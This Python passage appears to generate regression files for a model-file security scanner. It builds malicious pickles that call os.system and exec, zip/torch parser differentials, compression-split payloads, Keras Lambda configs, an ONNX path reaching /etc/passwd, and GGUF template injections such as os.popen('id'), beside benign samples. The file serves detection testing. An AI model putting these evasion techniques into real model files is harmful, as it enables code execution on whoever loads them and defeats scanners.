            "pickle": pickle.dumps({}, protocol=2),
            "storages": storages,
            "tensors": pickle.dumps(0, protocol=2),
        }
    )


def zip_two_central_directories(evil_pkl: bytes, benign_pkl: bytes) -> bytes:
    """Two torch zips' entries, both central directories, and an end record whose
    directory offset names the first (what torch's miniz reads) while its size and place
    make Python's zipfile take the second (shifted as if data were prepended)."""

    def tz(pkl: bytes) -> bytes:
        return _zip(
            {
                "archive/data.pkl": pkl,
                "archive/byteorder": b"little",
                "archive/data/0": b"\x00" * 512,
                "archive/version": b"3\n",
            }
        )

    a = tz(evil_pkl)
    b = tz(benign_pkl)

    def split(z: bytes) -> tuple[bytes, bytes, int]:
        e = z.rindex(b"PK\x05\x06")
        size = int.from_bytes(z[e + 12 : e + 16], "little")
        off = int.from_bytes(z[e + 16 : e + 20], "little")
        count = int.from_bytes(z[e + 10 : e + 12], "little")
        return z[:off], z[off : off + size], count

    a_loc, a_cd, n = split(a)
    b_loc, b_cd, _ = split(b)
    assert len(a_cd) == len(b_cd)
    concat = len(a_cd)
    # B's entries follow A's; Python adds `concat` to every offset B's directory states.
    b_cd = bytearray(b_cd)
    p = 0
    while p < len(b_cd):
        hoff = int.from_bytes(b_cd[p + 42 : p + 46], "little")
        b_cd[p + 42 : p + 46] = (hoff + len(a_loc) - concat).to_bytes(4, "little")
        nlen, xlen, clen = struct.unpack("<3H", b_cd[p + 28 : p + 34])
        p += 46 + nlen + xlen + clen
    cd_a_at = len(a_loc) + len(b_loc)
    eocd = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, n, n, len(b_cd), cd_a_at, 0)
    return a_loc + b_loc + a_cd + bytes(b_cd) + eocd


def _xz(data: bytes) -> bytes:
    import lzma

    return lzma.compress(data, format=lzma.FORMAT_XZ)


def _alone(data: bytes) -> bytes:
    import lzma

    return lzma.compress(data, format=lzma.FORMAT_ALONE)


def joblib_array_bytes_as_opcodes(payload: bytes) -> bytes:
    """A real ``joblib.dump(np.zeros(16))`` without array alignment (older joblib files
    have none; joblib reads them) whose 128 array bytes are ``payload``: joblib.load
    reads them as floats, pickle.load / torch.load run them as opcodes."""
    import joblib
    import numpy as np

    b = io.BytesIO()
    joblib.dump(np.zeros(16), b)
    d = b.getvalue().replace(b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez")
    i = d.index(b"K\x10ub") + 4
    rest = d[i + 1 + d[i] :]
    assert len(payload) <= 128
    return d[:i] + payload.ljust(128, b"N") + rest[128:]


def _layer(cls: str, config: dict[str, object], module: str = "keras.layers") -> dict[str, object]:
    # "config" first: a matcher keyed on the first key misses the object.
    return {"config": config, "registered_name": None, "class_name": cls, "module": module}


def hdf5_with_config(config_json: bytes) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 40 + b"model_config\x00" + config_json + b"\x00" * 16


def keras_model_json_lambda() -> bytes:
    """A model's to_json() with a Lambda layer (keras.models.model_from_json runs it)."""
    cfg = keras_layer_config(
        _layer(
            "Lambda",
            {
                "name": "l",
                "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}},
            },
        )
    )
    return json.dumps(cfg).encode()


GGUF_TEMPLATE_QWEN = (
    "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- for tool in tools %}"
    "{{- tool | tojson }}{%- endfor %}{%- endif %}"
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
    "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
    "{%- if ns.multi_step_tool and message.role == 'user' %}{%- set ns.multi_step_tool = false %}"
    "{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' and loop.first %}"
    "{{- '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}"
    "{%- elif message.role == 'assistant' %}{{- '<|im_start|>' + message.role }}"
    "{%- if message.tool_calls %}{%- for tool_call in message.tool_calls %}"
    "{%- if tool_call.function %}{%- set tool_call = tool_call.function %}{%- endif %}"
    "{{- tool_call.arguments | tojson }}{%- endfor %}{%- endif %}"
    "{%- else %}{{- '<|im_start|>' ~ message.role ~ '\\n' ~ message.content | trim }}"
    "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}"
    "{%- endif %}{{ messages[0]['content'][:10] }}{{ messages[messages|length - 1].role }}"
    "{% if messages[0]['role'] != 'user' %}{{ raise_exception('roles') }}{% endif %}"
)
GGUF_TEMPLATE_LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)


def gguf(template: str | None, *, version: int = 3) -> bytes:
    """A small GGUF file written per the GGUF spec: metadata (architecture, a token list,
    a chat template) and two tensors (F32 and Q8_0) at aligned offsets."""

    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    kv = [
        s("general.architecture") + struct.pack("<I", 8) + s("llama"),
        s("general.alignment") + struct.pack("<II", 4, 32),
        s("llama.context_length") + struct.pack("<IQ", 10, 4096),
        s("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 3) + s("<s>") + s("a") + s("b"),
        s("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 6, 3) + struct.pack("<3f", 0, 1, 2),
    ]
    if template is not None:
        kv.append(s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template))
    tensors = [("tok_embd.weight", [4, 2], 0, 32), ("blk.0.attn_q.weight", [32, 1], 8, 34)]
    infos = b""
    offset = 0
    for name, dims, ttype, size in tensors:
        infos += (
            s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        )
        infos += struct.pack("<IQ", ttype, offset)
        offset += (size + 31) // 32 * 32
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kv)) + b"".join(kv) + infos
    head += b"\x00" * (-len(head) % 32)
    return head + b"\x00" * offset


def issue16_malicious(marker: Path) -> dict[str, bytes]:
    """One or more regression files per family of issue 16."""
    cmd = _touch_cmd(marker)
    evil0 = call_global0("os", "system", cmd)
    evil = call_global("builtins", "exec", _exec_src(marker))
    tmw = _layer("TorchModuleWrapper", {"name": "t", "module": "gASVAAAA"})
    return {
        # 1. polyglots: valid tar / ONNX and a pickle at offset 0.
        # The tar name field holds 100 bytes: the command names the marker relative to the
        # loader's working directory (the payload test runs the loader in the marker's folder).
        "family_1_polyglot_tar_pickle": _tar_pickle_polyglot(
            call_global0("os", "system", f"touch {marker.name}")
        ),
        "family_1_polyglot_onnx_pickle": _onnx_pickle_polyglot(evil0),
        # 2. legacy torch: a second record after the raw storages; magic as text INT;
        #    the tar format's pickles after raw storage bytes.
        "family_2_legacy_record_after_storages": legacy_torch_records(evil),
        "family_2_legacy_text_magic_record_after_storages": legacy_torch_records(
            evil, text_magic=True
        ),
        "family_2_legacy_tar_pickle_after_raw_storage": legacy_torch_tar(
            call_global0("os", "system", cmd)
        ),
        # 3. zip differential: miniz and zipfile read different central directories.
        "family_3_zip_two_central_directories": zip_two_central_directories(
            evil, pickle.dumps({"w": 1}, protocol=2)
        ),
        # 4. compression chains.
        "family_4_gzip_members_nul_padded": _gz(evil[:6]) + b"\x00" * 32 + _gz(evil[6:]),
        "family_4_joblib_xz_then_lzma_alone": _xz(evil[:6]) + _alone(evil[6:]),
        "family_4_joblib_lzma_alone_then_xz": _alone(evil[:6]) + _xz(evil[6:]),
        # 5. joblib array bytes that pickle.load runs.
        "family_5_joblib_array_bytes_run_by_pickle_load": joblib_array_bytes_as_opcodes(evil0),
        # 6. Keras: HDF5 config with escapes and key order, model JSON, loaders.
        "family_6_hdf5_escaped_reordered_lambda": hdf5_with_config(
            json.dumps(
                {
                    "config": {"layers": [_layer("L\u0061mbda", {"name": "l"})]},
                    "class_name": "Sequential",
                }
            )
            .encode()
            .replace(b"Lambda", b"L\\u0061mbda")
        ),
        "family_6_hdf5_reordered_torch_module_wrapper": hdf5_with_config(
            json.dumps({"config": {"layers": [tmw]}, "class_name": "Sequential"}).encode()
        ),
        "family_6_keras_torch_module_wrapper": _keras(keras_layer_config(tmw)),
        "family_6_model_json_lambda": keras_model_json_lambda(),
        "family_6_pickled_keras_model_unpickle": call_global(
            "keras.src.models.sequential", "Sequential._unpickle_model", "x"
        ),
        # 7. ONNX: onnxruntime's in-memory marker; a location too long to cut short.
        "family_7_onnx_ort_memory_address": _onnx(external="*/_ORT_MEM_ADDR_/*"),
        "family_7_onnx_long_location_escape": _onnx(
            external="a" * 70_000 + "/../../../../etc/passwd"
        ),
        # GGUF chat templates beyond chat templates (CVE-2024-34359).
        "family_gguf_template_dunder": gguf(
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
        ),
        "family_gguf_template_computed_index": gguf(
            "{% set k = '_' ~ '_cla' ~ 'ss_' ~ '_' %}{{ (messages[0])[k] }}"
        ),
        "family_gguf_template_attr_filter": gguf(
            "{{ messages|attr('_' * 2 ~ 'class' ~ '_' * 2) }}"
        ),
    }


def issue16_benign() -> dict[str, bytes]:
    """Files issue 16 found flagged, built with the real libraries (or per spec)."""
    import joblib
    import numpy as np
    import onnx
    import onnxruntime as ort
    from onnx import TensorProto, helper
    from sklearn.dummy import DummyClassifier, DummyRegressor

    out: dict[str, bytes] = {}
    out["gguf_qwen_template"] = gguf(GGUF_TEMPLATE_QWEN)
    out["gguf_llama3_template_v2"] = gguf(GGUF_TEMPLATE_LLAMA3, version=2)
    out["gguf_no_template"] = gguf(None)
    # onnxruntime's optimizer fuses Transpose+MatMul+Mul into com.microsoft.FusedMatMul.
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2, 3])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2, 4])
    w = helper.make_tensor("w", TensorProto.FLOAT, [4, 3], [0.1] * 12)
    sc = helper.make_tensor("s", TensorProto.FLOAT, [], [0.5])
    nodes = [
        helper.make_node("Transpose", ["w"], ["wt"], perm=[1, 0]),
        helper.make_node("MatMul", ["x", "wt"], ["m"]),
        helper.make_node("Mul", ["m", "s"], ["y"]),
    ]
    model = helper.make_model(
        helper.make_graph(nodes, "g", [x], [y], [w, sc]),
        opset_imports=[helper.make_opsetid("", 17)],
    )
    model.ir_version = 8
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        so = ort.SessionOptions()
        so.graph_optimization_level = ort.GraphOptimizationLevel.ORT_ENABLE_EXTENDED
        so.optimized_model_filepath = str(Path(d) / "opt.onnx")
        ort.InferenceSession(model.SerializeToString(), so, providers=["CPUExecutionProvider"])
        opt = onnx.load(so.optimized_model_filepath)
        assert any(n.domain == "com.microsoft" for n in opt.graph.node)
        out["onnx_ort_optimized_com_microsoft"] = opt.SerializeToString()
    dt = {
        "t": np.array(["2020-01-01T00:00"], dtype="datetime64[ns]"),
        "d": np.array([5], dtype="timedelta64[s]"),
    }
    for k, v in dt.items():
        b = io.BytesIO()
        np.save(b, v)
        out[f"numpy_npy_datetime64_{k}"] = b.getvalue()
    b = io.BytesIO()
    np.savez(b, **dt)
    out["numpy_npz_datetime64"] = b.getvalue()
    b = io.BytesIO()
    joblib.dump(dt, b)
    out["joblib_datetime64"] = b.getvalue()
    out["pickle_datetime64"] = pickle.dumps(dt["t"])
    out["safetensors_fp8_kin"] = _safetensors(
        {
            "a": ("F8_E4M3FNUZ", [4], b"\x01\x02\x03\x04"),
            "b": ("F8_E5M2FNUZ", [2], b"\x01\x02"),
            "c": ("F8_E4M3", [2], b"\x01\x02"),
            "d": ("F8_E8M0", [1], b"\x7f"),
            "e": ("F4", [4], b"\x12\x34"),
        }
    )
    xs, ys = np.eye(4), [0, 1, 0, 1]
    for name, m in (
        ("classifier", DummyClassifier().fit(xs, ys)),
        ("regressor", DummyRegressor().fit(xs, ys)),
    ):
        out[f"sklearn_dummy_{name}_pickle"] = pickle.dumps(m)
        b = io.BytesIO()
        joblib.dump(m, b)
        out[f"sklearn_dummy_{name}_joblib"] = b.getvalue()
    out["keras_model_json_dense"] = json.dumps(keras_layer_config(keras_dense())).encode()
    out["json_tokenizer_config"] = json.dumps(
        {"model_max_length": 2048, "chat_template": GGUF_TEMPLATE_LLAMA3, "class_name": "x"}
    ).encode()
    return out
